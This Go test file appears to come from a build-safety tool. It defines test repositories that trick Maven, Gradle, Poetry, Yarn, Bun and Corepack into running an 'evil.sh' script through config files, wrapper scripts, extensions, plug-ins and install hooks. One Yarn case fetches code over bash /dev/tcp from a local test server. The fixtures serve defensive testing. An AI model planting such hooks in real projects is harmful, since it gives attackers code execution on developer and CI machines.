package gate

import (
	"archive/zip"
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ycbot/ycbot/test/bench"
)

// javaAssaults are those on Maven, whose base takes everything from Debian's packages, and
// on Gradle's wrapper, which is a script of the tree and needs no Gradle.
func javaAssaults() map[string]assault {
	base := mavenLanguage().files
	base["src/test/java/m/CalcTest.java"] = "package m;\n\npublic class CalcTest { @org.junit.Test public void one() { } }\n"
	gradle := map[string]string{"build.gradle": "", "gradlew": "#!/bin/sh\nexit 0\n"}
	wrapper := "#!/bin/sh\nbash ./evil.sh\n"
	maven := func(head map[string]string) assault {
		return assault{needs: "java javac mvn", lacks: mavenLanguage().lacks, base: base, head: head, unharmed: true}
	}
	bare := strings.Fields("java bash sh find cat rm")
	extension := maven(map[string]string{
		".mvn/maven.config": "--settings=.mvn/own.xml\n",
		".mvn/own.xml": "<settings><mirrors><mirror><id>own</id><mirrorOf>own</mirrorOf><url>file://${user.dir}/repo</url></mirror>" +
			"<mirror><id>system</id><mirrorOf>*,!own</mirrorOf><url>file://" + mavenRepo + "</url></mirror></mirrors>" +
			"<profiles><profile><id>own</id><pluginRepositories><pluginRepository><id>own</id><url>file:///nowhere</url></pluginRepository></pluginRepositories></profile></profiles>" +
			"<activeProfiles><activeProfile>own</activeProfile></activeProfiles></settings>\n",
		".mvn/extensions.xml":         "<extensions><extension><groupId>evil</groupId><artifactId>evil</artifactId><version>1</version></extension></extensions>\n",
		"repo/evil/evil/1/evil-1.pom": "<project><modelVersion>4.0.0</modelVersion><groupId>evil</groupId><artifactId>evil</artifactId><version>1</version></project>\n",
	})
	extension.more = func(t *testing.T, _ *index) map[string]string {
		t.Helper()
		return map[string]string{"repo/evil/evil/1/evil-1.jar": mavenExtension(t)}
	}
	return map[string]assault{
		"Maven, jvm.config": maven(map[string]string{".mvn/jvm.config": "-Xmx6m -XX:OnOutOfMemoryError=./evil.sh\n"}),
		"Maven, plug-in": maven(map[string]string{
			"pom.xml": strings.Replace(base["pom.xml"], "    <forkCount>0</forkCount>\n", "    <maven.compiler.fork>true</maven.compiler.fork>\n    <maven.compiler.executable>${basedir}/evil.sh</maven.compiler.executable>\n", 1),
		}),
		"Maven, extension": extension,
		"Maven, wrapper": {
			needs: "java", only: bare, unharmed: true,
			base: map[string]string{"pom.xml": "<project/>\n", "mvnw": "#!/bin/sh\nexit 0\n", "src/test/java/ATest.java": ""}, head: map[string]string{"mvnw": wrapper},
		},
		"Gradle, wrapper": {needs: "java", only: bare, base: gradle, head: map[string]string{"gradlew": wrapper}, unharmed: true},
	}
}

// mavenExtension is a jar with a participant of Maven's life cycle that runs a program.
func mavenExtension(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	source := filepath.Join(dir, "Evil.java")
	lay(t, dir, map[string][]byte{"Evil.java": []byte("@javax.inject.Named(\"evil\") @javax.inject.Singleton\npublic class Evil extends org.apache.maven.AbstractMavenLifecycleParticipant {\n" +
		"  public Evil() throws Exception { new ProcessBuilder(\"bash\", \"evil.sh\").inheritIO().start().waitFor(); }\n}\n")})
	cmd := exec.CommandContext(t.Context(), "javac", "-proc:none", "--release", "11", "-cp", "/usr/share/maven/lib/*", source)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("javac: %v\n%s", err, out)
	}
	class, err := os.ReadFile(filepath.Join(dir, "Evil.class"))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, data := range map[string][]byte{"Evil.class": class, "META-INF/sisu/javax.inject.Named": []byte("Evil\n")} {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// poetryAssaults are those on Poetry 1; later ones are left to its documentation.
func poetryAssaults() map[string]assault {
	l := poetryLanguage()
	base := map[string]string{"tests/test_a.py": "import unittest\n\nclass A(unittest.TestCase):\n    def test(self):\n        pass\n"}
	for name, text := range l.files {
		base[name] = text
	}
	poetry := func(head map[string]string) assault {
		return assault{needs: "python3 poetry", lacks: l.lacks, base: base, head: head}
	}
	const backend = "[build-system]\nrequires = []\nbuild-backend = \"back\"\nbackend-path = [\".\"]\n"
	return map[string]assault{
		"poetry, build script": poetry(map[string]string{
			"pyproject.toml":   base["pyproject.toml"] + "\n[tool.poetry.build]\nscript = \"build.py\"\ngenerate-setup-file = false\n\n[build-system]\nrequires = [\"./a\"]\nbuild-backend = \"poetry.core.masonry.api\"\n",
			"build.py":         runEvil,
			"calc/__init__.py": "",
			"a/pyproject.toml": backend, "a/back.py": runEvil,
		}),
		"poetry, environment": poetry(map[string]string{".venv/bin/python": "#!/bin/bash\nbash ./evil.sh\nexec python3 \"$@\"\n", ".venv/pyvenv.cfg": "home = /usr/bin\n", "poetry.toml": "[virtualenvs]\nin-project = true\n"}),
	}
}

// nodeAssaults are those on package managers of test/managers.
func (x *index) nodeAssaults() map[string]assault {
	manager := func(lock string, argv []string, files map[string]string) assault {
		base := map[string]string{"package.json": `{"name": "m", "version": "1.0.0", "scripts": {"test": "node --test"}, "dependencies": {"tiny": "1.0.0"}}`}
		for name, text := range files {
			base[name] = text
		}
		return assault{
			managers: true, needs: "node npm " + argv[0], base: base, unharmed: true,
			env: []string{"YARN_NPM_REGISTRY_SERVER=" + x.URL, "YARN_UNSAFE_HTTP_WHITELIST=127.0.0.1"},
			locked: func(t *testing.T, x *index) map[string]string {
				t.Helper()
				return map[string]string{lock: x.lock(t, assault{managers: true}.path(t), lock, argv, base)}
			},
		}
	}
	evilJS := "require('child_process').execFileSync('bash', ['evil.sh'], { stdio: 'inherit' });\n"
	scripted := `{"name": "m", "version": "1.0.0", "scripts": {"test": "node --test", "preinstall": "bash evil.sh"}, "dependencies": {"tiny": "1.0.0"}, "trustedDependencies": ["tiny"]}`
	berry := func(head map[string]string) assault {
		a := manager("yarn.lock", []string{"yarn", "install"}, map[string]string{".yarnrc.yml": "nodeLinker: node-modules\n"})
		a.head = head
		return a
	}
	bun := func(head map[string]string) assault {
		a := manager("bun.lock", []string{"bun", "install", "--save-text-lockfile"}, nil)
		a.head = head
		return a
	}

	// A package can be made by a program, which runs when it is resolved. Patches of the
	// head are among the data for yarn.
	made := func(members string) assault {
		at := strings.Replace(strings.TrimPrefix(x.own.URL, "http://"), ":", "/", 1)
		a := berry(map[string]string{
			"package.json": `{"name": "m", "version": "1.0.0", "scripts": {"test": "node --test"}, ` + members + `}`,
			"evil.patch":   "require('child_process').execFileSync('bash', ['-c', \"exec 3<>/dev/tcp/" + at + " && printf 'GET /evil HTTP/1.0\\\\r\\\\n\\\\r\\\\n' >&3 && cat <&3\"], { stdio: 'inherit' });\n",
		})
		a.unharmed = false
		return a
	}
	// The base brings its own yarn, and the machine's is another one.
	pinned := func(head map[string]string) assault {
		a := berry(nil)
		a.managers, a.head = false, head
		locked := a.locked
		a.locked = func(t *testing.T, x *index) map[string]string {
			t.Helper()
			files := locked(t, x)
			files[".yarnrc.yml"] = a.base[".yarnrc.yml"] + "yarnPath: .yarn/releases/yarn-4.cjs\n"
			files[".yarn/releases/yarn-4.cjs"] = berryProgram(t)
			return files
		}
		return a
	}
	corepack := assault{
		needs: "node npm corepack yarn", corepack: true,
		base: map[string]string{
			"package.json": `{"name": "m", "version": "1.0.0", "scripts": {"test": "node --test"}, "dependencies": {"tiny": "1.0.0"}}`, "yarn.lock": string(x.project("yarn", "1.0.0")["yarn.lock"]),
		},
		head: map[string]string{
			"package.json":  `{"name": "m", "version": "1.0.0", "scripts": {"test": "node --test"}, "dependencies": {"tiny": "1.0.0"}, "packageManager": "yarn@` + x.own.URL + `/yarn.js"}`,
			".corepack.env": "COREPACK_ENABLE_UNSAFE_CUSTOM_URLS=1\nCOREPACK_ENABLE_DOWNLOAD_PROMPT=0\n",
		},
	}
	return map[string]assault{
		"yarn 2, yarnPath":   berry(map[string]string{".yarnrc.yml": "nodeLinker: node-modules\nyarnPath: evil.cjs\n", "evil.cjs": evilJS}),
		"yarn 2, made":       made(`"dependencies": {"tiny": "1.0.0", "x": "exec:./evil.patch"}`),
		"yarn 2, made over":  made(`"dependencies": {"tiny": "1.0.0"}, "resolutions": {"tiny": "patch:tiny@exec%3A./evil.patch#./evil.patch"}`),
		"yarn 2, resolution": made(`"dependencies": {"tiny": "1.0.0"}, "resolutions": {"tiny": "exec:./evil.patch"}`),
		"yarn 2, pinned":     pinned(map[string]string{"package.json": strings.Replace(scripted, "preinstall", "postinstall", 1)}),
		"yarn 2, other pin":  pinned(map[string]string{".yarn/releases/yarn-4.cjs": evilJS}),
		"yarn 2, plug-in":    berry(map[string]string{".yarnrc.yml": "nodeLinker: node-modules\nplugins:\n  - path: evil.cjs\n    spec: evil\n", "evil.cjs": evilJS + "module.exports = { name: 'evil', factory: () => ({}) };\n"}),
		"yarn 2, constraint": berry(map[string]string{".yarnrc.yml": "nodeLinker: node-modules\nenableConstraintsChecks: true\n", "yarn.config.cjs": evilJS + "module.exports = { constraints: async () => {} };\n"}),
		"yarn 2, script":     berry(map[string]string{"package.json": strings.Replace(scripted, "preinstall", "postinstall", 1)}),
		"bun, script":        bun(map[string]string{"package.json": scripted}),
		"bun, scanner":       bun(map[string]string{"bunfig.toml": "preload = [\"./evil.cjs\"]\n[install.security]\nscanner = \"./evil.cjs\"\n", "evil.cjs": evilJS + "module.exports = { scanner: { version: '1', scan: async () => [] } };\n"}),
		"corepack":           corepack,
	}
}

// berryProgram is yarn 4 as projects commit it.
func berryProgram(t *testing.T) string {
	t.Helper()
	managers, err := bench.Managers(t.Context())
	if err != nil {
		t.Skip(err)
	}
	data, err := os.ReadFile(filepath.Join(managers, "@yarnpkg", "cli-dist", "bin", "yarn.js"))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// lock has a package manager write its lockfile for some files, among the registry's
// packages; it is run by the test, before there is a head.
func (x *index) lock(t *testing.T, path, name string, argv []string, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for file, text := range files {
		lay(t, dir, map[string][]byte{file: []byte(text)})
	}
	cmd := exec.CommandContext(t.Context(), (&Toolchains{Env: []string{"PATH=" + path}}).LookPath(argv[0]), argv[1:]...)
	cmd.Dir = dir
	cmd.Env = []string{
		"PATH=" + path, "HOME=" + t.TempDir(), "BUN_CONFIG_REGISTRY=" + x.URL, "YARN_NPM_REGISTRY_SERVER=" + x.URL,
		"YARN_UNSAFE_HTTP_WHITELIST=127.0.0.1", "YARN_ENABLE_TELEMETRY=false", "YARN_ENABLE_IMMUTABLE_INSTALLS=false",
	}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%s: %v\n%s", argv, err, out)
	}
	data, err := os.ReadFile(filepath.Join(dir, name))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// path is where an assault finds programs: in the system with test/runners or
// test/managers, or only in a folder with links to a few.
func (a assault) path(t *testing.T) string {
	t.Helper()
	path := systemPath()
	switch {
	case a.only != nil:
		system, dir := &Toolchains{Env: []string{"PATH=" + path}}, t.TempDir()
		for _, program := range a.only {
			if at := system.LookPath(program); at != "" {
				link(t, at, filepath.Join(dir, program))
			}
		}
		return dir
	case a.corepack:
		at, err := exec.LookPath("corepack")
		if err != nil {
			t.Skip(err)
		}
		if at, err = filepath.EvalSymlinks(at); err != nil {
			t.Fatal(err)
		}
		shims, err := bench.Kept("corepack-shims", func(dir string) error {
			return os.Symlink(filepath.Join(filepath.Dir(at), "yarn.js"), filepath.Join(dir, "yarn"))
		})
		if err != nil {
			t.Fatal(err)
		}
		return shims + ":" + path
	case a.managers:
		managers, err := bench.Managers(t.Context())
		if err != nil {
			t.Skip(err)
		}
		bun, err := filepath.Glob(filepath.Join(managers, "@oven", "*", "bin"))
		if err != nil {
			t.Fatal(err)
		}
		return strings.Join(append(bun, filepath.Join(managers, ".bin"), path), ":")
	}
	if runners, err := bench.Runners(t.Context()); err == nil {
		path += ":" + filepath.Join(runners, ".bin")
	}
	return path
}

func link(t *testing.T, target, name string) {
	t.Helper()
	if err := os.Symlink(target, name); err != nil {
		t.Fatal(err)
	}
}

// has skips a test that a program is missing for.
func (a assault) has(t *testing.T, name string, tools *Toolchains) {
	t.Helper()
	missing := ""
	for program := range strings.FieldsSeq(a.needs) {
		if !tools.Has(program) {
			missing = program
		}
	}
	if missing == "" && a.lacks != nil {
		missing = a.lacks(tools)
	}
	if missing != "" {
		t.Skipf("%s: %s is needed", name, missing)
	}
}
